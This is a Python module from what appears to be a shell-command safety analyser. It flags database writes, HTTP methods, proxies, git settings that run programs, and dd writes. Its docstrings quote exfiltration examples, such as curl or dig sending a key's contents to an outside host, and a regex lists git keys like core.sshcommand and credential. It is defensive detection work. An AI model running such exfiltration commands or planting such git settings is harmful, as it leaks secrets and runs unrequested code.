"""Commands that are told what to do by a statement, an address or a setting: databases, curl, git,
kill, dd."""

from __future__ import annotations

import itertools
import re
from collections.abc import Callable, Iterator, Mapping, Sequence

from shell.bash import Command
from shell.catalogue import Entry, operands
from shell.effects import statements
from shell.effects.code import texts_of
from shell.effects.expand import has_input, input_of
from shell.effects.files import operands_of
from shell.effects.state import Arg, State
from text import pattern

Args = list[Arg]
_GIT_SETTING = pattern(
    r"(?i)(alias\.|core\.(hookspath|pager|editor|sshcommand|fsmonitor|askpass|gitproxy)|.*\.(command|cmd|helper|program|textconv|process)"
    r"|include|credential|url\.|http\.proxy|remote\..*\.url|diff\.external|sequence\.editor|protocol)"
)
_GIT_READS = {"--get", "--list", "-l", "--get-all"}
_QUIET_PAGERS = ("", "cat", "less", "true", "false")
_RESOLVERS = frozenset(["ping", "ping6", "dig", "host", "nslookup", "whois"])
_READS = {"GET", "HEAD", "OPTIONS"}
_ASKS_NOTHING = frozenset(["-l", "--list", "--version", "--help", "-V", "-version"])
_REDIS_LOOKS = ("--scan", "--stat", "--bigkeys", "--memkeys", "--latency")
_SHELL_LINE = pattern(r"(?m)^\s*(?:\\!|\.(?:shell|system))\s+(.*)")


def _values(args: Args) -> list[str | None]:
    return [arg.text for arg in args[1:]]


# Databases


def _asks(state: State, known: Entry, args: Args, command: Command) -> None:
    """Note the statements that a database's client is asked."""
    if known.more["asks"] == "redis":
        changes = _changes_redis(state, known, args, command)
    elif _ASKS_NOTHING.isdisjoint(arg.start for arg in args[1:]):
        changes = _changes_database(state, known, args, command)
    else:
        changes = False
    if changes:
        is_local = bool(known.more.get("of_files"))  # its data are files of this machine
        state.add("delete", known.name, "may change or delete data", is_local=is_local)


def _changes_database(state: State, known: Entry, args: Args, command: Command) -> bool:
    texts = list(_statements(state, known, args, command))
    for line in _SHELL_LINE.findall("\n".join(filter(None, texts))):
        state.script(line)
    if not texts:
        return "verbs" not in known.more  # it waits for statements
    if statements.only_in_memory(_values(args), texts):
        return False
    is_mongo = known.more["asks"] == "mongo"
    judge = statements.changes_mongo if is_mongo else statements.changes_sql
    return None in texts or any(map(judge, filter(None, texts)))


def _changes_redis(state: State, known: Entry, args: Args, command: Command) -> bool:
    if any(arg.start.startswith(_REDIS_LOOKS) for arg in args[1:]):
        return False
    return statements.changes_redis(operands(known, _values(args)) or _read(state, command))


def _read(state: State, command: Command) -> list[str | None]:
    text = input_of(state, command)
    return [] if text is None else [*text.split()]


def _statements(state: State, known: Entry, args: Args, command: Command) -> Iterator[str | None]:
    options = known.listed("statement")
    plain = [arg.text for arg in operands_of(known, args[1:])]
    for option in options:
        yield from texts_of(known, option, args) if option.startswith("-") else ()
    if "operands" in options:
        yield from plain[1:]
    if "query" in options and "query" in plain:
        yield plain[-1]
    for option in known.listed("script"):
        yield from [None] * len(texts_of(known, option, args))
    if has_input(command):
        yield input_of(state, command)


# Addresses


def _methods(state: State, known: Entry, args: Args, command: Command) -> None:
    """`curl -X DELETE`."""
    said = [text for option in known.listed("methods") for text in texts_of(known, option, args)]
    said += [arg.start[2:] for arg in args[1:] if re.match(r"-X[A-Z]", arg.start)]
    for method in {str(each).upper() for each in said} - _READS:
        state.add("send", known.name, method, is_local=False)


def _fetches(state: State, known: Entry, args: Args, command: Command) -> None:
    """`curl "http://x/$(cat key)"`, `dig $(cat key).example.org`: what a command prints is sent."""
    given = {"all", *(arg.text for arg in args[1:])}
    if given.isdisjoint(known.listed("fetches")):
        return
    is_hidden = known.name in _RESOLVERS and None in given
    if is_hidden or any(arg.is_printed for arg in args[1:]):
        state.add("send", known.name, "what a command prints", is_local=False)
    for option in {arg.start for arg in args}.intersection(known.listed("proxies")):
        _proxied(state, known, option, args)


def _proxied(state: State, known: Entry, option: str, args: Args) -> None:
    """`curl -x PROXY`, `wget -e https_proxy=PROXY`."""
    value = next(filter(None, texts_of(known, option, args)), "proxy")
    if option != "-e" or "proxy" in value:
        state.add("send", known.name, f"{option}: what is asked goes there", is_local=False)


def openssl(state: State, known: Entry, args: Args, command: Command) -> None:
    """`openssl s_client` sends what it reads; looking at a certificate sends nothing."""
    if [arg.text for arg in args[1:2]] != ["s_client"]:
        return
    given = {input_of(state, command), *(each.word.literal for each in command.redirects)}
    if given.isdisjoint(("", "Q", "/dev/null")):
        state.add("send", known.name, "s_client", is_local=False)


# Settings and jobs


def git(state: State, known: Entry, args: Args, command: Command) -> None:
    """Judge settings of git that run programs, given once or for good."""
    values = [arg.start for arg in args[1:]]
    _git_options(state, values)
    plain = operands(known, _values(args))
    if plain[:1] == ["config"] and _GIT_READS.isdisjoint(values):
        _git_config(state, plain[1:], is_wide=not {"--global", "--system"}.isdisjoint(values))
    if plain[:2] == ["bisect", "run"]:
        state.run_words(state, args[values.index("run") + 2 :] or args[:1], Command())


def _git_options(state: State, values: list[str]) -> None:
    """`git -c KEY=VALUE`."""
    for option, setting in itertools.pairwise(values):
        key, _, text = setting.partition("=")
        if option in ("-c", "--config-env") and _GIT_SETTING.match(key):
            _git_program(state, text)


def _git_config(state: State, plain: Sequence[str | None], *, is_wide: bool) -> None:
    """`git config KEY VALUE`, `git config set KEY VALUE`."""
    keys = plain[1:] if plain[:1] in (["set"], ["unset"]) else plain
    key = keys[0] if len(plain) > 1 else None
    if key is None:
        return
    if is_wide or _GIT_SETTING.match(key):
        state.add("system", "git", f"config {key}", is_local=False)


def _git_program(state: State, text: str) -> None:
    if text.startswith("!"):
        state.script(text[1:])
    elif text not in _QUIET_PAGERS:
        state.add("unknown", "git", "a setting that runs a program")


def _jobs(state: State, known: Entry, args: Args, command: Command) -> None:
    """`kill %1`, `kill $!`: jobs of the script alone."""
    signs = {arg.start[:1] for arg in operands_of(known, args[1:])}
    if signs == {"%"}:
        state.forget("kill")


def dd(state: State, known: Entry, args: Args, command: Command) -> None:
    """`dd of="$place"`: it may be a disk."""
    if any(arg.text is None and arg.start.startswith("of=") for arg in args[1:]):
        state.add("system", "dd", "writes to a place that is only known when it runs")


BY_KEY: Mapping[str, Callable[[State, Entry, Args, Command], None]] = {
    "asks": _asks,
    "jobs": _jobs,
    "methods": _methods,
    "fetches": _fetches,
}
